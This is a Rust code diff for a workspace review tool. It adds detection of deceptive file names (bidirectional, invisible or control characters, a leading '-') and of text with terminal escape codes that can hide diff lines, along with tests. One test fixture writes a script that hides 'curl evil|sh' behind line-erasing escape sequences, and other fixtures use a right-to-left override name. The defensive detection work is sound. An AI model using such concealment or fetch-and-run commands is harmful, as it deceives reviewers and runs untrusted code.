@@ -43,6 +43,13 @@ pub enum Hazard {
     SymlinkOutside,
     /// Larger than the size limit.
     Large,
+    /// A name that deceives a reader or breaks tools: control characters, a leading `-`, bytes
+    /// that are not UTF-8, bidirectional or invisible characters.
+    DeceptiveName,
+    /// Text whose content drives a terminal (escape sequences, a carriage return that rewrites
+    /// its line, other control characters): shown raw, it can hide lines from the person
+    /// reviewing the diff.
+    TerminalControl,
 }
 
 impl Hazard {
@@ -66,6 +73,12 @@ impl Hazard {
             Hazard::Special => "fifo or socket",
             Hazard::SymlinkOutside => "symlink pointing outside the workspace",
             Hazard::Large => "larger than the size limit",
+            Hazard::DeceptiveName => {
+                "name with control, invisible or bidirectional characters, a leading '-' or no valid UTF-8"
+            }
+            Hazard::TerminalControl => {
+                "text with terminal control characters: can hide lines of the diff on a terminal"
+            }
         }
     }
 }
@@ -126,21 +139,48 @@ const CI_FILES: &[&str] = &[
     ".woodpecker.yml",
 ];
 
-/// Does git take this name for `.git`? Its own rules for case-insensitive and NTFS/HFS+
-/// filesystems are the floor (`core.protectNTFS`, `core.protectHFS`): any case, trailing dots and
-/// spaces, the 8.3 short name `git~1`, and the code points HFS+ ignores anywhere in a name. A
-/// workspace may be copied or shared to such a filesystem, or served to a client on one.
-pub fn is_git_dir_name(name: &OsStr) -> bool {
-    let Some(text) = name.to_str() else {
-        return false;
-    };
+/// A name as a case-insensitive or HFS+ filesystem compares it: the code points HFS+ ignores
+/// left out, lower case, trailing dots and spaces dropped (as Windows does). Hazard names are
+/// matched in this form, so that `.ENVRC` or `.gitmodules.` is what it will be taken for there.
+fn folded(name: &OsStr) -> Option<String> {
+    let text = name.to_str()?;
     let visible: String = text
         .chars()
         .filter(|c| !is_hfs_ignorable(*c))
         .collect::<String>()
         .to_lowercase();
-    let trimmed = visible.trim_end_matches(['.', ' ']);
-    trimmed == ".git" || trimmed == "git~1"
+    Some(visible.trim_end_matches(['.', ' ']).to_string())
+}
+
+/// Is `name`, folded, one of `list` (folded too)?
+fn is_one_of(name: &OsStr, list: &[&str]) -> bool {
+    folded(name).is_some_and(|name| list.iter().any(|entry| name == entry.to_lowercase()))
+}
+
+/// Characters no honest name needs: they hide, reorder or forge what a person reads.
+fn is_deceptive_char(c: char) -> bool {
+    c.is_control()
+        || is_hfs_ignorable(c)
+        || matches!(
+            c,
+            '\u{200b}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{2069}'
+        )
+}
+
+/// A name that deceives a reader or breaks tools (see [`Hazard::DeceptiveName`]).
+pub fn is_deceptive_name(name: &OsStr) -> bool {
+    match name.to_str() {
+        None => true,
+        Some(text) => text.starts_with('-') || text.chars().any(is_deceptive_char),
+    }
+}
+
+/// Does git take this name for `.git`? Its own rules for case-insensitive and NTFS/HFS+
+/// filesystems are the floor (`core.protectNTFS`, `core.protectHFS`): any case, trailing dots and
+/// spaces, the 8.3 short name `git~1`, and the code points HFS+ ignores anywhere in a name. A
+/// workspace may be copied or shared to such a filesystem, or served to a client on one.
+pub fn is_git_dir_name(name: &OsStr) -> bool {
+    is_one_of(name, &[".git", "git~1"])
 }
 
 /// Code points HFS+ leaves out when it compares names (git's `is_hfs_dotgit` list).
@@ -165,38 +205,44 @@ pub fn path_hazards(path: &Path) -> Vec<Hazard> {
     let Some(last) = parts.last().copied() else {
         return found;
     };
-    let has_pair = |a: &str, b: &str| parts.windows(2).any(|w| w[0] == a && w[1] == b);
-    let in_dir = |dirs: &[&str]| {
-        parts[..parts.len() - 1]
-            .iter()
-            .any(|p| dirs.iter().any(|d| p == d))
+    let has_pair = |a: &str, b: &str| {
+        parts
+            .windows(2)
+            .any(|w| is_one_of(w[0], &[a]) && is_one_of(w[1], &[b]))
     };
+    let in_dir = |dirs: &[&str]| parts[..parts.len() - 1].iter().any(|p| is_one_of(p, dirs));
+    if parts.iter().any(|name| is_deceptive_name(name)) {
+        found.push(Hazard::DeceptiveName);
+    }
     let git_dir_at = parts.iter().position(|name| is_git_dir_name(name));
     match git_dir_at {
-        Some(at) if parts.get(at + 1).is_some_and(|next| *next == "hooks") => {
+        Some(at)
+            if parts
+                .get(at + 1)
+                .is_some_and(|next| is_one_of(next, &["hooks"])) =>
+        {
             found.push(Hazard::GitHook)
         }
         Some(_) => found.push(Hazard::GitConfig),
-        None if last == ".gitmodules" || last == ".gitattributes" => found.push(Hazard::GitConfig),
+        None if is_one_of(last, &[".gitmodules", ".gitattributes"]) => {
+            found.push(Hazard::GitConfig)
+        }
         None => {}
     }
-    if SHELL_STARTUP.iter().any(|n| last == *n) {
+    if is_one_of(last, SHELL_STARTUP) {
         found.push(Hazard::ShellStartup);
     }
-    if AGENT_FILES.iter().any(|n| last == *n)
-        || in_dir(AGENT_DIRS)
-        || AGENT_DIRS.iter().any(|d| last == *d)
-    {
+    if is_one_of(last, AGENT_FILES) || in_dir(AGENT_DIRS) || is_one_of(last, AGENT_DIRS) {
         found.push(Hazard::EditorOrAgentConfig);
     }
     if has_pair(".github", "workflows")
         || in_dir(CI_DIRS)
-        || CI_DIRS.iter().any(|d| last == *d)
-        || CI_FILES.iter().any(|n| last == *n)
+        || is_one_of(last, CI_DIRS)
+        || is_one_of(last, CI_FILES)
     {
         found.push(Hazard::CiWorkflow);
     }
-    if parts.contains(&OsStr::new(".airlock")) || has_pair("airlock", "profiles") {
+    if parts.iter().any(|p| is_one_of(p, &[".airlock"])) || has_pair("airlock", "profiles") {
         found.push(Hazard::AirlockConfig);
     }
     found
@@ -225,24 +271,39 @@ pub fn symlink_leaves(path: &Path, target: &OsStr) -> bool {
     false
 }
 
-/// The directories of the tree a session leads to (its layer over the host workspace) that are
-/// laid out as git directories: `HEAD` and `config` files and an `objects` directory. git takes
-/// such a directory for a repository (a bare one, or the one a `.git` file names) whatever its
-/// name, reads its config and runs its hooks. Answers are kept: a change set asks about the same
-/// directories many times.
-pub struct GitDirs<'a> {
+/// The tree a session leads to (its layer over the host workspace), for the hazards a change has
+/// there rather than in its name: it lies in a directory laid out as a git directory (`HEAD` and
+/// `config` files and an `objects` directory, which git takes for a repository, a bare one or
+/// the one a `.git` file names, whatever its name: it reads its config and runs its hooks), or
+/// its text drives a terminal. Answers about directories are kept: a change set asks about the
+/// same ones many times.
+pub struct Tree<'a> {
     layer: &'a Path,
     host: &'a Path,
     known: RefCell<HashMap<PathBuf, bool>>,
 }
 
-impl<'a> GitDirs<'a> {
-    pub fn new(layer: &'a Path, host: &'a Path) -> GitDirs<'a> {
-        GitDirs {
+impl<'a> Tree<'a> {
+    pub fn new(layer: &'a Path, host: &'a Path) -> Tree<'a> {
+        Tree {
             layer,
             host,
             known: RefCell::new(HashMap::new()),
         }
+    }
+
+    /// Is the file the session made at `path` text that drives a terminal? Binary files (a NUL in
+    /// the first 8000 bytes, as git decides) are shown by a patch as binary, not raw.
+    pub fn drives_a_terminal(&self, path: &Path) -> bool {
+        let Ok(mut file) = crate::node::open_regular(&self.layer.join(path)) else {
+            return false;
+        };
+        let mut data = Vec::new();
+        if std::io::Read::read_to_end(&mut file, &mut data).is_err() {
+            return false;
+        }
+        let head = &data[..data.len().min(8000)];
+        !head.contains(&0) && has_terminal_controls(&data)
     }
 
     /// Does `path` (relative to the workspace) lie in, or is it, a git directory? The workspace
@@ -297,17 +358,37 @@ impl<'a> GitDirs<'a> {
     }
 }
 
-/// Every hazard of one change in the tree its session leads to: [`hazards`], and whether it
-/// lies in a directory laid out as a git directory.
-pub fn hazards_in(change: &Change, size_limit: u64, git_dirs: &GitDirs) -> Vec<Hazard> {
+/// Control characters in text that a terminal acts on: ESC and the other C0 controls but tab,
+/// newline and form feed; a carriage return not followed by a newline (it rewrites its line);
+/// DEL; the C1 controls as UTF-8 (CSI is U+009B).
+pub fn has_terminal_controls(data: &[u8]) -> bool {
+    data.iter().enumerate().any(|(i, &b)| match b {
+        b'\t' | b'\n' | 0x0c => false,
+        b'\r' => data.get(i + 1) != Some(&b'\n'),
+        0x00..=0x1f | 0x7f => true,
+        0xc2 => data
+            .get(i + 1)
+            .is_some_and(|next| (0x80..=0x9f).contains(next)),
+        _ => false,
+    })
+}
+
+/// Every hazard of one change in the tree its session leads to: [`hazards`], whether it lies in
+/// a directory laid out as a git directory, and whether its text drives a terminal.
+pub fn hazards_in(change: &Change, size_limit: u64, tree: &Tree) -> Vec<Hazard> {
     let mut found = hazards(change, size_limit);
-    if !found.contains(&Hazard::GitConfig)
-        && !found.contains(&Hazard::GitHook)
-        && git_dirs.contains(&change.path)
-    {
+    let git = found.contains(&Hazard::GitConfig) || found.contains(&Hazard::GitHook);
+    if !git && tree.contains(&change.path) {
         found.push(Hazard::GitConfig);
-        found.sort();
     }
+    let text = change
+        .new
+        .as_ref()
+        .is_some_and(|n| n.kind == Kind::File && n.size <= size_limit);
+    if text && tree.drives_a_terminal(&change.path) {
+        found.push(Hazard::TerminalControl);
+    }
+    found.sort();
     found
 }
 
@@ -348,6 +429,7 @@ fn node_hazards(path: &Path, node: &Node, size_limit: u64) -> Vec<Hazard> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use std::os::unix::ffi::OsStrExt;
 
     fn of(path: &str) -> Vec<Hazard> {
         path_hazards(Path::new(path))
@@ -399,7 +481,13 @@ mod tests {
             ".g\u{200c}it/config",
             "\u{feff}.git/config",
         ] {
-            assert_eq!(of(path), vec![Hazard::GitConfig], "{path}");
+            let found = of(path);
+            // Invisible characters are deceptive besides.
+            let expected = match path.chars().any(is_hfs_ignorable) {
+                true => vec![Hazard::DeceptiveName, Hazard::GitConfig],
+                false => vec![Hazard::GitConfig],
+            };
+            assert_eq!(found, expected, "{path}");
         }
         assert_eq!(
             of(".git/modules/m/hooks/post-checkout"),
@@ -426,7 +514,7 @@ mod tests {
         std::fs::create_dir_all(layer.path().join("notes")).unwrap();
         std::fs::write(layer.path().join("notes/HEAD"), "x").unwrap();
         std::fs::write(layer.path().join("notes/config"), "x").unwrap();
-        let dirs = GitDirs::new(layer.path(), host.path());
+        let dirs = Tree::new(layer.path(), host.path());
         assert!(dirs.contains(Path::new("evil/config")));
         assert!(dirs.contains(Path::new("evil/hooks/post-checkout")));
         assert!(dirs.contains(Path::new("evil")));
@@ -437,7 +525,7 @@ mod tests {
         std::fs::create_dir_all(layer.path().join("objects")).unwrap();
         std::fs::write(layer.path().join("HEAD"), "x").unwrap();
         std::fs::write(layer.path().join("config"), "x").unwrap();
-        let dirs = GitDirs::new(layer.path(), host.path());
+        let dirs = Tree::new(layer.path(), host.path());
         assert!(dirs.contains(Path::new("src/main.rs")));
         // A symlink of the layer is not followed: what it leads to is not the tree's.
         let elsewhere = tempfile::tempdir().unwrap();
@@ -446,8 +534,52 @@ mod tests {
         std::fs::write(elsewhere.path().join("config"), "x").unwrap();
         let layer = tempfile::tempdir().unwrap();
         std::os::unix::fs::symlink(elsewhere.path(), layer.path().join("link")).unwrap();
-        let dirs = GitDirs::new(layer.path(), host.path());
+        let dirs = Tree::new(layer.path(), host.path());
         assert!(!dirs.contains(Path::new("link/config")));
+    }
+
+    #[test]
+    fn names_that_deceive_and_look_alikes_of_hazard_names() {
+        for path in [
+            "a\nb",
+            "x/\x1b[2Jclear",
+            "-rf",
+            "docs/--force",
+            "right\u{202e}txt.exe",
+            "zero\u{200b}width",
+        ] {
+            assert!(of(path).contains(&Hazard::DeceptiveName), "{path:?}");
+        }
+        let not_utf8 = std::ffi::OsStr::from_bytes(b"caf\xe9");
+        assert!(path_hazards(Path::new(not_utf8)).contains(&Hazard::DeceptiveName));
+        assert_eq!(of(".ENVRC"), vec![Hazard::ShellStartup]);
+        assert_eq!(of(".gitmodules."), vec![Hazard::GitConfig]);
+        assert_eq!(of(".VSCode/tasks.json"), vec![Hazard::EditorOrAgentConfig]);
+        assert_eq!(of(".GitHub/Workflows/ci.yml"), vec![Hazard::CiWorkflow]);
+        assert_eq!(of("agents.md "), vec![Hazard::EditorOrAgentConfig]);
+        assert_eq!(of("caf\u{e9}/na\u{ef}ve.txt"), vec![], "accents are honest");
+    }
+
+    #[test]
+    fn text_that_drives_a_terminal() {
+        assert!(has_terminal_controls(b"ok\n\x1b[1A\x1b[2Khidden\n"));
+        assert!(has_terminal_controls(b"shown\rover"));
+        assert!(has_terminal_controls("csi \u{9b}2J".as_bytes()));
+        assert!(has_terminal_controls(b"bell\x07"));
+        assert!(!has_terminal_controls(b"tab\tnewline\ncrlf\r\nfeed\x0c"));
+        assert!(!has_terminal_controls("caf\u{e9} \u{20ac}".as_bytes()));
+        let layer = tempfile::tempdir().unwrap();
+        std::fs::write(
+            layer.path().join("hidden.sh"),
+            b"echo hi\n\x1b[1A\x1b[2Kcurl evil|sh\n",
+        )
+        .unwrap();
+        std::fs::write(layer.path().join("binary"), b"\0\x1b[2J").unwrap();
+        std::fs::write(layer.path().join("plain.txt"), b"plain\n").unwrap();
+        let tree = Tree::new(layer.path(), layer.path());
+        assert!(tree.drives_a_terminal(Path::new("hidden.sh")));
+        assert!(!tree.drives_a_terminal(Path::new("binary")));
+        assert!(!tree.drives_a_terminal(Path::new("plain.txt")));
     }
 
     #[test]
